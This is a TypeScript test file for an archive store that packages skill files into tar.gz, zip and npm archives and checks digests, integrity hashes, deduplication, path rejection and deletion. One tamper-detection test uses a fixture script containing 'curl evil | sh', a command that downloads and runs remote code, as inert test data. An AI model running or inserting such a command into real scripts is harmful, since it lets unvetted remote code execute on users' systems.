import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { fakeR2 } from "../../../../test/support/fake-r2.ts";
import { file, refusalOf, skill } from "../../../../test/support/skill-files.ts";
import { withSourceEnv } from "../../../../test/support/source-env.ts";
import { contentDigest, sortedByPath } from "../../../domain/digest.ts";
import {
  deleteContent,
  loadSkillContent,
  openArchive,
  openArchiveByKey,
  storeNpmArchive,
  storeSkillContent,
} from "../archive-store.ts";

const files = skill(
  "pdf",
  file("scripts/run.sh", "#!/bin/sh\n", true),
  file("näme/ü.txt", "ü"),
  file("empty", ""),
  file("__proto__", "p"),
);
const digest = contentDigest(files);
const metadata = {
  packageName: "@acme/pdf",
  version: "1.0.0",
  skillName: "pdf",
  description: "Does one thing.",
};

describe("archive store", () => {
  it("returns exactly the files that were stored, executable bit included", async () => {
    const r2 = fakeR2();
    await withSourceEnv({ ARCHIVES: r2.bucket }, async () => {
      await storeSkillContent(digest, files);
      expect(await loadSkillContent(digest)).toEqual(sortedByPath(files));
    });
  });

  it("creates each archive only once", async () => {
    const r2 = fakeR2();
    await withSourceEnv({ ARCHIVES: r2.bucket }, async () => {
      const first = await storeSkillContent(digest, files);
      const second = await storeSkillContent(digest, files);
      expect(second).toEqual(first);
      await Promise.all([storeNpmArchive(digest, files, metadata), storeNpmArchive(digest, files, metadata)]);
    });
    expect(r2.puts.toSorted()).toEqual(
      ["npm.tgz", "skill.tar.gz", "skill.zip"].map((format) => `content/${digest}/${format}`),
    );
  });

  it("returns each archive's own digest and size", async () => {
    const r2 = fakeR2();
    await withSourceEnv({ ARCHIVES: r2.bucket }, async () => {
      const { tarGz, zip } = await storeSkillContent(digest, files);
      const npm = await storeNpmArchive(digest, files, metadata);
      for (const archive of [tarGz, zip, npm]) {
        const bytes = r2.objects.get(archive.key)!.bytes;
        expect(archive.size).toBe(bytes.length);
        expect(archive.sha256).toBe(`sha256:${createHash("sha256").update(bytes).digest("hex")}`);
      }
      const npmBytes = r2.objects.get(npm.key)!.bytes;
      expect(npm.integrity).toBe(`sha512-${createHash("sha512").update(npmBytes).digest("base64")}`);
      expect(npm.shasum).toBe(createHash("sha1").update(npmBytes).digest("hex"));
    });
  });

  it("keeps separate npm packages for two repositories with the same content", async () => {
    const r2 = fakeR2();
    await withSourceEnv({ ARCHIVES: r2.bucket }, async () => {
      const first = await storeNpmArchive(digest, files, metadata);
      const fork = await storeNpmArchive(digest, files, { ...metadata, packageName: "@fork/pdf" });
      expect(fork.key).not.toBe(first.key);
      expect(fork.sha256).not.toBe(first.sha256);
      expect(await storeNpmArchive(digest, files, { ...metadata, packageName: "@fork/pdf" })).toEqual(fork);
      const served = await openArchiveByKey(fork.key, fork.size);
      expect(served).toEqual(new Uint8Array(r2.objects.get(fork.key)?.bytes ?? []));
    });
  });

  it("refuses to serve content that no longer has its digest", async () => {
    const r2 = fakeR2();
    await withSourceEnv({ ARCHIVES: r2.bucket }, async () => {
      const other = skill("pdf", file("scripts/run.sh", "curl evil | sh", true));
      await storeSkillContent(contentDigest(other), other);
      const stolen = r2.objects.get(`content/${contentDigest(other)}/skill.tar.gz`)!;
      r2.objects.set(`content/${digest}/skill.tar.gz`, stolen);
      expect(await refusalOf(() => loadSkillContent(digest))).toBe("CONTENT_CORRUPT");
    });
  });

  it("refuses to store files under another content's digest", async () => {
    await withSourceEnv({ ARCHIVES: fakeR2().bucket }, async () => {
      await expect(storeSkillContent(digest, skill("other"))).rejects.toThrow("do not have the digest");
      await expect(storeSkillContent("sha256:../x", files)).rejects.toThrow();
    });
  });

  it("returns null for missing content, and deletes every archive of a content, page by page", async () => {
    const r2 = fakeR2();
    await withSourceEnv({ ARCHIVES: r2.bucket }, async () => {
      expect(await loadSkillContent(digest)).toBeNull();
      await storeSkillContent(digest, files);
      await storeNpmArchive(digest, files, metadata);
      const other = skill("other");
      await storeSkillContent(contentDigest(other), other);
      await deleteContent(digest);
      expect(await openArchive(digest, "skill.zip")).toBeNull();
      expect([...r2.objects.keys()].every((key) => key.includes(contentDigest(other)))).toBe(true);
      await deleteContent(digest);
    });
  });
});
